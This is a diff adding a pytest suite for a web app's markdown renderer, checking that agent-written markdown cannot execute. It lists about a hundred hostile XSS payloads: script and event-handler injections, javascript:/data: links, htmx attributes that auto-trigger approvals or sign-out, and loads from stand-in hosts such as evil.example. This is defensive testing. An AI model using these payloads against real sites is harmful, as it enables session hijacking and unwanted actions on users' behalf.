@@ -1,0 +1,223 @@
+"""Markdown from agents: readable, and never executable."""
+
+import time
+from html.parser import HTMLParser
+
+import pytest
+
+from opensink_web.web.markdown import MAX_LENGTH, render
+
+ALLOWED_TAGS = {
+    *("p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "pre", "code"),
+    *("em", "strong", "s", "a", "ul", "ol", "li"),
+    *("table", "thead", "tbody", "tr", "th", "td"),
+}
+ALLOWED_ATTRIBUTES = {"href", "title", "target", "rel", "start", "align"}
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\n>alert(1)</script\n>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<img/src='x'/onerror=alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<div style=position:fixed;inset:0>over everything</div>",
+    "<form action=/sign-out method=post><button>Click</button></form>",
+    "<input onfocus=alert(1) autofocus>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<select onfocus=alert(1) autofocus></select>",
+    "<textarea autofocus onfocus=alert(1)></textarea>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<body onload=alert(1)>",
+    "<table background=javascript:alert(1)><tr><td>x</table>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "<a href=x onclick=alert(1)>x</a>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<x-dialog onclick=alert(1)>x</x-dialog>",
+    "<div hx-post=/api/v1/agents hx-trigger=load></div>",
+    "<div hx-get=/ hx-trigger='load' hx-swap=outerHTML>x</div>",
+    "<div data-hx-delete='/agents/1' data-hx-trigger='load'>x</div>",
+    "<button hx-post='/inbox/1/resolve' hx-vals='{\"approved\":true}'>Read more</button>",
+    "<a hx-boost=true href=/sign-out>x</a>",
+    "<div hx-on:click='alert(1)'>x</div>",
+    "<div hx-on--load='alert(1)'>x</div>",
+    "<div hx-ext=sse sse-connect=//evil.example/>",
+    "<div data-copy-target='#secret' data-confirm>x</div>",
+    "<div id=main class=modal>x</div>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,%3Csvg/onload=alert(1)%3E)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    "[x](/sign-out)",
+    "[x](//evil.example)",
+    "[x](\\\\evil.example)",
+    "[x](?redirect=1)",
+    "[x](#main)",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
+    '[x](https://a.example/"onmouseover=alert`1`)',
+    "[x](<https://a.example/' hx-get='/>)",
+    "![x](https://tracker.example/pixel.png)",
+    "![x](javascript:alert(1))",
+    '![" onerror="alert(1)](x)',
+    "![![<script>alert(1)</script>](x)](y)",
+    "[![x](https://tracker.example/p.png)](javascript:alert(1))",
+    "![<img src=x onerror=alert(1)>][r]\n\n[r]: x",
+    '```html" onmouseover="alert(1)\nx\n```',
+    "```<script>alert(1)</script>\n<script>alert(2)</script>\n```",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "|<img src=x onerror=alert(1)>|\n|:-:|\n|<script>alert(1)</script>|",
+    "# <script>alert(1)</script>",
+    "> <iframe src=//evil.example>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\<script>alert(1)\\</script>",
+    "<\x00script>alert(1)</script>",
+    "\u2028<img src=x onerror=alert(1)>",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+]
+
+
+class _Reader(HTMLParser):
+    """Collects what a browser would find in the HTML."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.links: list[str] = []
+        self.text = ""
+        self.feed(str(html))  # a Markup would escape what it is joined with
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes.update(name for name, _ in attrs)
+        self.links.extend(value or "" for name, value in attrs if name == "href")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_hostile_comes_through(text: str) -> None:
+    found = _Reader(render(text))
+
+    assert found.tags <= ALLOWED_TAGS
+    assert found.attributes <= ALLOWED_ATTRIBUTES
+    assert all(link.lower().startswith(("http://", "https://", "mailto:")) for link in found.links)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_hostile_comes_through_inside_other_markdown(text: str) -> None:
+    found = _Reader(render(f"# Plan\n\n- one **{text}**\n\n> {text}\n\nend"))
+
+    assert found.tags <= ALLOWED_TAGS
+    assert found.attributes <= ALLOWED_ATTRIBUTES
+
+
+def test_there_are_enough_payloads_and_none_twice() -> None:
+    assert len(HOSTILE) == len(set(HOSTILE)) >= 60
+
+
+def test_raw_html_is_shown_as_the_text_it_is() -> None:
+    assert _Reader(render("a <b>c</b>")).text.strip() == "a <b>c</b>"
+
+
+def test_an_image_becomes_its_alternative_text() -> None:
+    assert render("![a *red* chart](https://x.example/c.png)") == "<p>a red chart</p>\n"
+
+
+def test_alternative_text_is_escaped() -> None:
+    assert render("![`<b>`](x)") == "<p>&lt;b&gt;</p>\n"
+
+
+def test_links_open_apart_and_tell_nothing() -> None:
+    html = render("[x](https://a.example)")
+
+    assert 'target="_blank" rel="noopener noreferrer nofollow"' in html
+
+
+@pytest.mark.parametrize("address", ["http://a.example", "HTTPS://a.example", "mailto:a@b.example"])
+def test_a_link_to_elsewhere_stays(address: str) -> None:
+    assert _Reader(render(f"[x]({address})")).links == [address]
+
+
+def test_headings_leave_the_first_two_levels_to_the_page() -> None:
+    tags = _Reader(render("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f")).tags
+
+    assert tags == {"h3", "h4", "h5", "h6"}
+
+
+def test_a_table_keeps_its_alignment_without_style() -> None:
+    html = render("|item|price|\n|-|-:|\n|tea|3|")
+
+    assert '<td align="right">3</td>' in html
+    assert "style" not in html
+
+
+def test_everyday_markdown_reads_as_meant() -> None:
+    html = render("**b** *i* ~~s~~ `c`\n\n3. x\n\n- y\n\n> q\n\n---\n\n```py\nz\n```")
+
+    assert _Reader(html).tags == {
+        *("p", "strong", "em", "s", "code", "ol", "ul", "li", "blockquote", "hr", "pre"),
+    }
+    assert '<ol start="3">' in html
+
+
+def test_an_empty_text_is_an_empty_text() -> None:
+    assert render("") == ""
+
+
+def test_a_text_that_is_too_long_is_shown_as_it_is() -> None:
+    html = render("*<b>*" + "x" * MAX_LENGTH)
+
+    assert html.startswith("<pre>*&lt;b&gt;*xxx")
+    assert _Reader(html).tags == {"pre"}
+
+
+@pytest.mark.parametrize(
+    "piece", ["[", "![", "*a ", "*a_ ", "<", "a](", "[a](<b", "~~a ", ">", "- ", "`" * 7 + " "]
+)
+def test_no_text_keeps_the_server_busy_for_long(piece: str) -> None:
+    text = (piece * MAX_LENGTH)[:MAX_LENGTH]
+    started = time.process_time()
+
+    render(text)
+
+    assert time.process_time() - started < 10
